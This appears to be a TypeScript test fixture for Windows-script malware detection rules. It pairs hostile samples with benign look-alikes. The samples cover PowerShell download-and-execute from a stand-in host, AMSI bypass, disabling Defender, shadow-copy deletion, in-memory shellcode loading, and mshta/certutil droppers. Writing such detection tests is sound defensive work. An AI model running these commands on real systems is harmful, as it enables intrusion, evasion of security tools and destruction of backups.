import { page, pe, t, type RuleCases } from './case';

const base64 = 'QUJDRA'.repeat(20);
const ps = t('power~shell');
const wsh = t('WScript.Sh~ell');
const http = t('MSXML2.XML~HTTP');

/** Scripts of Windows. */
export const scripts: RuleCases = {
  Script_PowerShell_Download_And_Run: {
    match: ['a.ps1', t("i~ex (New-Object Net.WebClient).Down~loadString('http://x.example/a')")],
    miss: ['a.ps1', 'Invoke-WebRequest https://example.com/report.csv -OutFile report.csv'],
    more: [
      ['a.ps1', Buffer.from(t('\ufeffi~wr https://x.example/a | i~ex'), 'utf16le')],
      [
        'a.bat',
        t('power~shell -w hidden -c "Invoke-WebRequest http://x.example/a -OutFile b.exe; Start-Process b.exe"'),
      ],
    ],
    alsoMiss: [
      ['README.md', t('Install: `i~rm get.example.com | i~ex`')],
      ['blog.html', t('<html><p>They ran i~ex (New-Object Net.WebClient).Down~loadString(1)</p></html>')],
      ['mail.txt', t('we saw power~shell i~wr http://x.example | i~ex')],
    ],
  },
  Script_PowerShell_Encoded_Command: {
    match: ['a.bat', `${ps} -w hidden -e${'nc'} ${'QQBB'.repeat(30)}`],
    miss: ['a.bat', `${ps} -File backup.ps1 -Encoding utf8`],
    alsoMiss: [['report.md', `the command was ${ps} -e${'nc'} ${'QQBB'.repeat(30)}`]],
  },
  Script_PowerShell_Loads_Program_From_Memory: {
    match: [
      'a.ps1',
      t('$b=[Convert]::FromBase64~String($x);[Reflection.Assem~bly]::Load($b).EntryPoint.Inv~oke($null,$null)'),
    ],
    miss: ['a.ps1', '[System.Reflection.Assembly]::LoadWithPartialName("System.Windows.Forms"); $form.ShowDialog()'],
  },
  Script_PowerShell_Compressed_Payload: {
    match: [
      'a.ps1',
      t('i~ex (New IO.StreamReader((New IO.Compression.Gzip~Stream([Convert]::FromBase64~String("H4s"))))'),
    ],
    miss: ['a.ps1', 'New-Object IO.Compression.GzipStream($file, [IO.Compression.CompressionMode]::Compress)'],
  },
  Script_PowerShell_Decodes_And_Runs: {
    match: ['a.ps1', t("i~ex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64~String('QUJD')))")],
    miss: ['a.ps1', '$json = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($secret)) | ConvertFrom-Json'],
    more: [['a.ps1', t("& ('{2}{0}{1}' -f 'a','b','c')")]],
    alsoMiss: [['b.ps1', "Write-Host ('{0} of {1} done' -f $a, $b)"]],
  },
  Script_Puts_Code_Into_Memory: {
    match: [
      'a.ps1',
      t('$p=[W]::Virtual~Alloc(0,4096,0x3000,0x40);[Marshal]::Co~py($b,0,$p,9);[W]::Create~Thread(0,0,$p,0,0,0)'),
    ],
    miss: ['a.ps1', '[Runtime.InteropServices.Marshal]::Copy($bytes, 0, $pointer, $bytes.Length)'],
  },
  Script_Blinds_The_Scanner: {
    match: [
      'a.ps1',
      t("$f=[Ref].Assembly.GetType('System.Management.Automation.Am~siUtils').GetField('am~siInit~Failed')"),
    ],
    miss: ['a.ps1', 'Get-MpComputerStatus | Select AMServiceEnabled'],
  },
  Script_Switches_Off_Protection: {
    match: ['a.ps1', t('Set-Mp~Preference -DisableRealtime~Monitoring $true')],
    miss: ['a.ps1', 'Get-MpPreference | Format-List'],
  },
  Script_Deletes_Backups: {
    match: ['a.bat', t('vss~admin delete sha~dows /all /quiet')],
    miss: ['a.bat', 'vssadmin list shadows'],
    more: [['a.exe', pe(t('vss~admin delete sha~dows'), t('wb~admin delete cata~log'))]],
    alsoMiss: [['notes.txt', t('ransomware calls vss~admin delete sha~dows')]],
  },
  Script_WindowsHost_Dropper: {
    match: ['a.js', `x=new ActiveXObject('${http}');new ActiveXObject('${wsh}').Run('a')`],
    miss: ['a.vbs', `Set s = CreateObject("${wsh}")\nMsgBox s.ExpandEnvironmentStrings("%USERNAME%")`],
    alsoMiss: [['jquery.js', `function xhr(){try{return new ActiveXObject('${http}')}catch(e){}}`]],
  },
  Script_Starts_Hidden_Shell: {
    match: ['a.vbs', `CreateObject("${wsh}").Run "${ps} -w hidden -c x", 0`],
    miss: ['a.vbs', `CreateObject("${wsh}").Run "notepad.exe C:\\notes.txt"`],
  },
  Script_Run_By_System_Tool: {
    match: ['a.bat', t('msh~ta http://x.example/a')],
    miss: ['a.txt', t('We saw msh~ta https://x.example in the log, what is it?')],
    more: [
      ['a.bat', t('cert~util -url~cache -split -f http://x.example/a.exe a.exe')],
      ['a.bat', t('ms~iexec /q /i http://x.example/a.msi')],
    ],
    alsoMiss: [
      ['b.bat', 'certutil -urlcache * delete'],
      ['c.bat', 'msiexec /i C:\\setup\\app.msi /qn\r\nrem see https://example.com'],
    ],
  },
  Script_Batch_Cut_From_Variables: {
    match: ['a.bat', `set x=abcdefgh\r\n${Array.from({ length: 20 }, (_unused, at) => `%x:~${at},1%`).join('')}`],
    miss: ['a.bat', 'set stamp=%date:~6,4%-%date:~3,2%-%date:~0,2%\r\ncopy %source% %target%\\%stamp%'],
  },
  Script_Batch_Fetches_And_Starts: {
    match: ['a.bat', 'curl http://x.example/a -o %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe'],
    miss: ['a.bat', 'curl https://example.com/data.csv -o %TEMP%\\data.csv\r\nstart excel %USERPROFILE%\\report.xlsx'],
  },
  Script_Encoded_VBScript_Or_JScript: {
    match: ['a.vbe', '#@~^abcdef==^#~@'],
    miss: ['a.txt', 'a divider: #@~^ only'],
  },
  Script_JScript_Hidden_Commands: {
    match: ['a.js', `WScript.Sleep(1);eval("${'\\x61\\x62\\x63\\x64'.repeat(30)}")`],
    miss: ['a.js', `module.exports = "${'\\x61\\x62\\x63\\x64'.repeat(30)}"; new Function('return this')()`],
  },
  Script_Carries_Program: {
    match: ['a.ps1', `$x = "${t('TVqQ~AAMAAAAEAAAA')}//8AALgAAAA"`],
    miss: ['a.js', `const wasm = "AGFzbQEAAAABBgFgAX8Bf${base64}"`],
    alsoMiss: [['notes.txt', t('a program begins with TVqQ~AAMAAAAEAAAA in base64')]],
  },
  Script_Starts_With_Windows: {
    match: [
      'a.reg',
      `[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="${ps} -w hidden -enc QUJD"`,
    ],
    miss: [
      'a.reg',
      '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="C:\\\\App\\\\app.exe"',
    ],
  },
  Script_Scriptlet_Runs_Commands: {
    match: [
      'a.sct',
      `<scriptlet><registration progid="x"><script>new ActiveXObject("${wsh}")</script></registration></scriptlet>`,
    ],
    miss: [
      'a.xsl',
      '<xsl:stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><xsl:template match="/"/></xsl:stylesheet>',
    ],
  },
  Script_Project_File_Runs_Code: {
    match: [
      'a.csproj',
      t('<UsingTask TaskName="x" TaskFactory="CodeTask~Factory"><Code>[Dll~Import("kernel32")]</Code></UsingTask>'),
    ],
    miss: ['a.csproj', '<Project Sdk="Microsoft.NET.Sdk"><UsingTask TaskName="x" AssemblyFile="x.dll"/></Project>'],
    more: [['a.inf', t('[x]\r\nUnRegisterOCXs=y\r\n[y]\r\n%11%\\scr~obj.dll,NI,http://x.example/a.sct')]],
  },
  Hta_With_Shell: {
    match: ['a.hta', `<script>new ActiveXObject("${wsh}")</script>`],
    miss: ['a.hta', '<hta:application><script>document.title="x"</script>'],
    alsoMiss: [['page.html', page(`var note = "${wsh}"`)]],
  },
};
